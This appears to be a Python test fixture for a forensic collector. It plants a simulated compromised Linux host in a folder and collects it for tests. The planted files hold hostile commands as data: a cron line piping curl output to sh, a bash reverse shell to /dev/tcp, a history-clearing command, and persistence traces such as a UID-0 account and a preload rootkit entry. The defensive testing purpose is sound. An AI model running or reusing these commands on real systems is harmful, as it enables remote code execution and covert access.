#!/usr/bin/env python3
"""A small compromised Linux host, planted in a folder, and collected with the real collector
(collectors/linux/kensa-collect.sh under dash --root). Used by the collector's own tests and by
the C++ tests of libs/collection and libs/hunt, which run:

    python3 tests/collectors/planted_host.py OUT_DIR     # prints the archive's path
"""

import os
import shutil
import subprocess
import sys

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
COLLECTOR = os.path.join(REPO, "collectors", "linux", "kensa-collect.sh")


def write(path, text, mode=0o644):
    """Writes `text` (str as UTF-8, or bytes as they are) to `path` with `mode`."""
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as handle:
        handle.write(text if isinstance(text, bytes) else text.encode("utf-8"))
    os.chmod(path, mode)


def plant_host(root):
    """A small compromised host: a planted SSH key, an LD_PRELOAD rootkit line, a cron job, a
    systemd backdoor, a dropped ELF in /tmp and the shell history that fetched it."""
    write(root + "/etc/hostname", "victim01\n")
    write(root + "/etc/os-release", 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n')
    write(root + "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"
          "sysupdate:x:0:0::/root:/bin/bash\n")
    write(root + "/etc/shadow", "root:$6$secret:19000:0:99999:7:::\n", 0o600)
    write(root + "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libsneaky.so\n")
    write(root + "/etc/crontab", "*/5 * * * * root curl -s http://198.51.100.7/c.sh | sh\n")
    write(root + "/var/spool/cron/crontabs/alice", "@reboot /tmp/.x/payload\n", 0o600)
    write(root + "/etc/systemd/system/dbus-helper.service",
          "[Service]\nExecStart=/tmp/.x/payload --daemon\n[Install]\nWantedBy=multi-user.target\n")
    write(root + "/home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK attacker@evil\n", 0o600)
    # The download line ends with a comment typed on a Japanese terminal set to Shift_JIS.
    write(root + "/home/alice/.bash_history",
          ("cd /tmp\ncurl -o /tmp/.x/payload http://198.51.100.7/p  # \u66f4\u65b0\nchmod +x /tmp/.x/payload\n"
           "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\nhistory -c\n").encode("cp932"))
    guesses = "".join("Nov 26 08:%02d:%02d victim01 sshd[700]: Failed password for invalid user admin from 203.0.113.9 port 4%03d ssh2\n"
                      % (i // 60, i % 60, i) for i in range(25))
    write(root + "/var/log/auth.log", guesses +
          "Nov 26 09:00:01 victim01 sshd[811]: Accepted password for alice from 203.0.113.9 port 51022 ssh2\n"
          "Nov 26 09:02:13 victim01 useradd[902]: new user: name=sysupdate, UID=0, GID=0, home=/root, shell=/bin/bash\n")
    write(root + "/var/log/syslog", "x" * 200000 + "\n")  # over --max-file-bytes below
    os.makedirs(root + "/tmp/.x", exist_ok=True)
    shutil.copyfile("/bin/true", root + "/tmp/.x/payload")  # a real ELF, dropped by "curl"
    os.chmod(root + "/tmp/.x/payload", 0o755)
    write(root + "/tmp/notes.txt", "not executable, not ELF\n")
    os.makedirs(root + "/usr/local/bin", exist_ok=True)
    shutil.copyfile("/bin/true", root + "/usr/local/bin/dbus-helper")  # a SUID-root backdoor shell
    os.chmod(root + "/usr/local/bin/dbus-helper", 0o4755)


def collect_planted_host(out_dir):
    """Plants the host under OUT_DIR/root and collects it; returns the archive's path."""
    root = os.path.join(out_dir, "root")
    plant_host(root)
    result = subprocess.run(["dash", COLLECTOR, "--root", root, "--out", os.path.join(out_dir, "out"),
                             "--case", "CASE-2026-0142", "--max-file-bytes", "100000"],
                            capture_output=True, text=True, check=True, timeout=600)
    return result.stdout.strip()


if __name__ == "__main__":
    print(collect_planted_host(sys.argv[1]))
